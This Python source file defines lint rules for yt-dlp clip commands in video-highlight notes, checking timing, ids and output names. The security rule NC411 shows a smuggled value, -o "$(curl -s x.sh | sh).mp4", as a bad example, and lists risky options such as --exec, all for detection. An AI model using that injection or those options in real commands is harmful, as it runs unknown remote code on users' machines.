"""NC4xx: highlights and their clip commands.

Each ``###`` block under Highlights is one unit: its thumbnail link (``t=`` = T), its
clip command (a fenced block, often inside ``<details>``, before the quote or after the
attribution: the range [S, E] and the ``-o`` tag G) and its quote's attribution link (A;
its label when valid, else its ``t=``). The times are gathered and judged once per
highlight in ``notecheck.timeline`` (SPEC §2, a highlight's timeline): NC403 (the clip
does not hold the quoted moment) and NC409 (T is neither S nor A, or A at or after E)
read its verdicts; NC407 compares G with S, NC408 the clip's length.
"""

from __future__ import annotations

import math
from typing import Iterable

from ..clipcmd import ClipCall, parse_clip_command
from ..diagnostic import Finding, Fix
from ..note import Highlight, Note
from ..quotematch import ESTIMATE_MARGIN
from ..times import describe, render_label, render_tag
from ..timeline import Timeline, timelines
from . import ERROR, rule


def clip_calls(note: Note, hl: Highlight) -> list[ClipCall]:
    """The highlight's clip commands, parsed once per note (several rules read them).

    Kept on the note, keyed by what the parse reads (text and offset): an lru_cache
    shared by all notes thrashed on a note with more clips than its size.
    """
    cache = note.__dict__.setdefault("_clip_calls", {})
    out = []
    for clip in hl.clips:
        key = (clip.text, clip.start)
        call = cache.get(key)
        if call is None:
            call = cache[key] = parse_clip_command(clip.text, clip.start)
        out.append(call)
    return out


def _bound_shown(bound) -> str:
    return f"{bound.text} ({bound.seconds:g} s)"


@rule("NC401", "missing-clip", summary="a highlight has no clip command")
def missing_clip(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A ``###`` highlight under Highlights without a fenced clip command.

    Why it matters:
        Every highlight offers the command that cuts its clip; without it the reader
        has to work out the range and the file name by hand.

    Bad:
        ### "Soil is the slowest technology we have"
        [![Clip](…/hqdefault.jpg)](…&t=95s)
        > "Soil is the slowest technology we have. …"

    Good:
        ### "Soil is the slowest technology we have"
        [![Clip](…/hqdefault.jpg)](…&t=95s)
        <details><summary>Clip command</summary>

        ```bash
        yt-dlp --download-sections "*1:35-2:40" "https://www.youtube.com/watch?v=aBcD3fGh1jK" --force-keyframes-at-cuts --merge-output-format mp4 -o "aBcD3fGh1jK-1m35s.mp4"
        ```
        </details>
    """
    for hl in note.highlights:
        if not hl.clips:
            h = hl.heading
            yield Finding(h.title_start if h.title else h.start, f"highlight {h.title or '(untitled)'} has no clip command",
                          end=h.end)


@rule("NC402", "unparseable-clip", summary="a clip command cannot be parsed as one yt-dlp call")
def unparseable_clip(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip command that is not one ``yt-dlp --download-sections "*START-END" URL …``
        call: an unclosed quote, no ``--download-sections`` or a chapter name instead of
        a ``*`` range, a bound that is not a time, several ranges or URLs, no URL, an
        option without its value. Read with ``shlex``, never a shell.

    Why it matters:
        The command fails, or downloads the whole video, when pasted into a terminal;
        and the other NC4xx rules cannot check it.

    Bad:
        yt-dlp --download-sections "*9:25" "https://www.youtube.com/watch?v=lXUZvyajciY"

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY"
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            for issue in call.parse_issues:
                yield Finding(issue.offset, issue.message)


@rule("NC403", "clip-start", fix="unsafe",
      summary="the clip does not hold the quoted moment (starts after it, or too long before it)")
def clip_start(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A highlight's clip that does not hold its quote. When the transcript places the
        quote (by a verbatim sentence), the quote's words decide: the clip must not start
        after them (the quoted moment is cut off), nor more than clip-lead-seconds
        (default 60) before them. Inside a long paragraph a word's time is estimated from
        its position between the paragraph's start and the next one's, with a margin of
        15 s (or a tenth of the paragraph's span); in an abridged paragraph (less than 1.5
        words a second) the words may be anywhere in it: a clip is reported only when the
        words are outside it for every time the estimate allows. When the quote is not
        placed (no transcript, no verbatim sentence), the attribution's time decides:
        the clip must start at or before it, at most clip-lead-seconds earlier. Starting a
        clip a few seconds before the quote, with the attribution citing the quote's own
        moment inside the clip, is the usual practice and fine. Reported at the start
        bound. A clip that moved with a misplaced attribution is NC502's finding, and an
        attribution at or after the clip's end NC409's.

    Why it matters:
        The clip is the highlight's evidence: it must hold the words quoted.

    Bad:
        [![Clip](…)](…&t=592s)  yt-dlp --download-sections "*9:52-10:30" …
        > -- Andrej Karpathy, [9:25](…&t=565s)

        (the words are at 9:25: the clip starts after them)

    Good:
        [![Clip](…)](…&t=560s)  yt-dlp --download-sections "*9:20-10:00" …
        > -- Andrej Karpathy, [9:25](…&t=565s)

    Fix (unsafe, with --unsafe-fixes, when the transcript places the quote):
        Moves the clip (its start, its -o tag, and the thumbnail if it cited the start)
        to hold the words, keeping its length; offered only when the result is clean.
    """
    for tl in timelines(note, ctx):
        for call in tl.calls:
            verdict = tl.start_off.get(id(call))
            if verdict is None:
                continue
            b = call.start
            yield Finding(b.start, _start_message(tl, b, verdict), end=b.end,
                          fix=tl.fix if call is tl.call else None)


def _start_message(tl: Timeline, bound, verdict: str) -> str:
    p = tl.placement
    lead = tl.lead
    if p is not None:
        w = p.words
        if w.hi - w.lo < 2 * max(ESTIMATE_MARGIN, (w.end - w.start) / 10) + 1 and w.hi < w.end:
            words = f"the quote's words (about {render_label(int(w.at))}, in the paragraph at {p.where})"
        else:
            words = f"the quote's words (in the paragraph at {p.where}, to {_shown_end(w.end)})"
        if verdict == "cut":
            return f"clip starts at {_bound_shown(bound)}, after {words}: the quoted moment is cut off"
        return (f"clip starts at {_bound_shown(bound)}, {int(w.lo - bound.seconds)} s or more before {words}; "
                f"at most clip-lead-seconds = {lead:g}")
    ref = tl.attribution if tl.attribution is not None else tl.thumbnail
    what = "the attribution's time" if tl.attribution is not None else "the highlight's time"
    if verdict == "cut":
        return (f"clip starts at {_bound_shown(bound)}, after {what} {describe(ref.seconds)}: "
                f"the quoted moment is cut off")
    return (f"clip starts at {_bound_shown(bound)}, {ref.seconds - bound.seconds:g} s before {what} "
            f"{describe(ref.seconds)}; at most clip-lead-seconds = {lead:g}")


def _shown_end(end: float) -> str:
    return "the end" if end == float("inf") else render_label(int(end))


@rule("NC404", "clip-end-before-start", summary="clip end is not after clip start")
def clip_end_before_start(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip range whose end is not after its start (``*10:00-9:25``, ``*9:25-9:25``),
        at the end bound.

    Why it matters:
        yt-dlp cuts nothing, or fails.

    Bad:
        yt-dlp --download-sections "*10:00-9:25" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" …
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.start is None or call.end is None or call.end.infinite:
                continue
            if call.end.seconds <= call.start.seconds:
                yield Finding(call.end.start, f"clip end {_bound_shown(call.end)} is not after its start "
                              f"{_bound_shown(call.start)}", end=call.end.end)


@rule("NC405", "clip-end-past-duration", summary="clip end lies past duration")
def clip_end_past_duration(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip range that ends after the end of the video (front matter ``duration``),
        at the end bound; ``inf`` (to the end) is fine. Silent without a valid duration.

    Why it matters:
        A typo in the end; the clip is not what its author meant.

    Bad:
        duration: 8768
        yt-dlp --download-sections "*2:24:00-2:30:00" …

    Good:
        yt-dlp --download-sections "*2:24:00-2:25:10" …
    """
    duration = note.duration
    if duration is None:
        return
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.start is None or call.end is None or call.end.infinite:
                continue
            if call.end.seconds > duration and call.end.seconds > call.start.seconds:
                yield Finding(call.end.start, f"clip end {_bound_shown(call.end)} is past the video's duration "
                              f"{describe(duration)}", end=call.end.end)


@rule("NC406", "clip-video-id", summary="the clip command's video id differs from video_id", fix="safe")
def clip_video_id(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip command whose URL (or bare id) names another video than ``video_id``.

    Why it matters:
        The command cuts a clip out of the wrong video: a copy-paste slip.

    Bad:
        video_id: lXUZvyajciY
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=aBcD3fGh1jK" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" …

    Fix:
        Replaces the id in the URL with ``video_id``.
    """
    video_id = note.video_id
    if video_id is None:
        return
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.video_id is None or call.id_start is None or call.video_id == video_id:
                continue
            fix = None
            if call.id_end is not None:
                fix = Fix.replace(call.id_start, call.id_end, video_id, description="use the note's video_id")
            yield Finding(call.id_start, f"clip command video id {call.video_id} differs from video_id {video_id}",
                          end=call.id_end, fix=fix)


@rule("NC407", "clip-output-tag", summary="the -o file name's time tag differs from the clip start", fix="safe")
def clip_output_tag(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        An ``-o`` file name with a time tag (``lXUZvyajciY-9m25s.mp4``) naming another
        time than the clip start (whole seconds). Slug names (``cpu-runs-the-world.mp4``)
        carry no tag and are fine. When the start is off (NC403) and the tag names a start
        that would hold the quote, the start is the defect and the tag is left alone.

    Why it matters:
        The file name is how clips are found again; a wrong tag points to another moment.

    Bad:
        --download-sections "*104:00-105:10" … -o "lXUZvyajciY-140m00s.mp4"

    Good:
        --download-sections "*104:00-105:10" … -o "lXUZvyajciY-104m00s.mp4"

    Fix:
        Rewrites the tag from the clip start (``104m00s``).
    """
    for tl in timelines(note, ctx):
        a = tl.reference
        for call in tl.calls:
            if call.tag_seconds is None or call.tag_start is None or call.start is None or call.start.infinite:
                continue
            start = int(call.start.seconds)
            if call.tag_seconds == start:
                continue
            if id(call) in tl.start_off and tl.clip_start_verdict(call.tag_seconds, a) is None:
                continue  # the start is wrong, the tag is right: NC403 says so
            good = render_tag(start)
            fix = None
            if call.tag_end is not None:
                fix = Fix.replace(call.tag_start, call.tag_end, good, description="rewrite the tag from the clip start")
            yield Finding(call.tag_start, f"-o tag {call.tag_text} ({call.tag_seconds} s) differs from the clip start "
                          f"{_bound_shown(call.start)}; write {good}", end=call.tag_end, fix=fix)


@rule("NC408", "clip-length", summary="clip length outside the configured bounds (default 5-600 s)")
def clip_length(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip shorter or longer than ``clip-seconds = [min, max]`` (default 5-600 s),
        reported at the start bound. Only when the end is after the start (else NC404),
        the end within the video (else NC405) and the start holding the quoted moment
        (else NC403): one wrong bound, one finding. ``inf`` counts to ``duration``.

    Why it matters:
        A 2-second clip cannot hold a quote; a 20-minute clip is not a highlight.

    Bad:
        yt-dlp --download-sections "*9:25-29:25" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" …
    """
    lo, hi = ctx.config.clip_seconds
    duration = note.duration
    for tl in timelines(note, ctx):
        for call in tl.calls:
            if call.start is None or call.end is None:
                continue
            end = call.end.seconds
            if math.isinf(end):
                if duration is None:
                    continue
                end = float(duration)
            elif duration is not None and end > duration:
                continue  # NC405
            length = end - call.start.seconds
            if length <= 0 or id(call) in tl.start_off:
                continue  # NC404 / NC403
            if lo <= length <= hi:
                continue
            shape = "shorter than" if length < lo else "longer than"
            yield Finding(call.start.start, f"clip {call.start.text}-{call.end.text} is {length:g} s long, {shape} "
                          f"clip-seconds [{lo:g}, {hi:g}]", end=call.end.end)


@rule("NC409", "attribution-time", fix="unsafe",
      summary="the highlight's times disagree: thumbnail neither clip start nor attribution, "
              "or attribution at or after the clip's end")
def attribution_time(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A highlight whose thumbnail link t= is neither its clip's start nor its
        attribution's time (without a clip: not the attribution's time), reported at the
        thumbnail's t=; or whose attribution lies at or after the clip's end, reported at
        the attribution. Thumbnail and clip starting a few seconds before the quote while
        the attribution cites the quote's own moment inside the clip is the usual
        practice and fine. An attribution cited at the wrong place in the transcript is
        NC502's finding, a clip that does not hold the words NC403's.

    Why it matters:
        The thumbnail, the clip and the attribution all point at one moment; a reader
        who follows one of them must see what the others promise.

    Bad:
        [![Clip](…)](…&t=4060s)  "*67:30-68:40"  > -- Andrej Karpathy, [1:07:30](…&t=4050s)
        [![Clip](…)](…&t=4050s)  "*67:30-68:40"  > -- Andrej Karpathy, [1:08:40](…&t=4120s)

    Good:
        [![Clip](…)](…&t=4050s)  "*67:30-68:40"  > -- Andrej Karpathy, [1:07:30](…&t=4050s)
        [![Clip](…)](…&t=4045s)  "*67:25-68:40"  > -- Andrej Karpathy, [1:07:30](…&t=4050s)

    Fix (unsafe, with --unsafe-fixes, when the transcript places the quote):
        Rebuilds the highlight's timeline from where the transcript has the words;
        offered only when the result is clean.
    """
    for tl in timelines(note, ctx):
        t, a = tl.thumbnail, tl.attribution
        if tl.thumbnail_off and t is not None:
            thumb = f"thumbnail {t.shown} ({render_label(t.seconds)})"
            if tl.call is not None and a is not None:
                message = f"{thumb} is neither the clip start {tl.call.start.text} nor the attribution {a.shown}"
            elif tl.call is not None:
                message = f"{thumb} differs from the clip start {tl.call.start.text}"
            else:
                message = f"{thumb} differs from the attribution {a.shown}"
            yield Finding(t.start, message, end=t.end, fix=tl.fix)
        if tl.after_end and a is not None:
            yield Finding(a.start, f"attribution {a.shown} is at or after the clip's end {tl.call.end.text}",
                          end=a.end, fix=tl.fix)


@rule("NC410", "thumbnail-image-id", summary="the highlight thumbnail image's video id differs from video_id", fix="safe")
def thumbnail_image_id(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A highlight thumbnail whose image (``img.youtube.com/vi/<id>/…`` or
        ``i.ytimg.com/vi_webp/<id>/…``) belongs to another video than ``video_id``.

    Why it matters:
        The highlight shows another video's picture: a copy-paste slip.

    Bad:
        [![Clip](https://img.youtube.com/vi/aBcD3fGh1jK/hqdefault.jpg)](https://www.youtube.com/watch?v=lXUZvyajciY&t=565s)

    Good:
        [![Clip](https://img.youtube.com/vi/lXUZvyajciY/hqdefault.jpg)](https://www.youtube.com/watch?v=lXUZvyajciY&t=565s)

    Fix:
        Replaces the id in the image URL with ``video_id``.
    """
    video_id = note.video_id
    if video_id is None:
        return
    for hl in note.highlights:
        thumb = hl.thumbnail
        if thumb is None or thumb.image_id is None or thumb.image_id_start is None or thumb.image_id == video_id:
            continue
        end = thumb.image_id_start + len(thumb.image_id)
        yield Finding(thumb.image_id_start, f"thumbnail image video id {thumb.image_id} differs from video_id {video_id}",
                      end=end, fix=Fix.replace(thumb.image_id_start, end, video_id, description="use the note's video_id"))


@rule("NC411", "clip-beyond-yt-dlp", summary="a clip command carries more than the one yt-dlp call")
def clip_beyond_yt_dlp(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        Anything in a clip command beyond the one yt-dlp call: shell metacharacters
        outside quotes (``;`` ``&&`` ``&`` ``|`` ``>`` ``<``), command substitution
        (`` ` ``, ``$(``) or expansions (``$HOME``) anywhere but inside single quotes, a
        second command on another line, a program other than yt-dlp, an option yt-dlp
        does not have, or one that runs or loads something else (``--exec``,
        ``--downloader``, ``--use-postprocessor``, ``--config-locations``, ``-a``,
        credentials, ``-U``). An unquoted URL with ``&`` is caught here too: the shell
        would cut the command at the ``&``. One finding per clip command, at its first
        such problem; the message counts the others (``(and 4 more in this command)``).
        A security finding: severity error, never fixed automatically.

    Why it matters:
        Readers paste clip commands into a terminal. A note is text anyone can edit or
        generate; it must not be able to make that paste run something else.

    Bad:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" -o "$(curl -s x.sh | sh).mp4"

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" -o "lXUZvyajciY-9m25s.mp4"
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            issues = call.security_issues
            if not issues:
                continue
            first = min(issues, key=lambda issue: issue.offset)  # the first in the text (ties: first found)
            more = f" (and {len(issues) - 1} more in this command)" if len(issues) > 1 else ""
            yield Finding(first.offset, first.message + more, severity=ERROR)
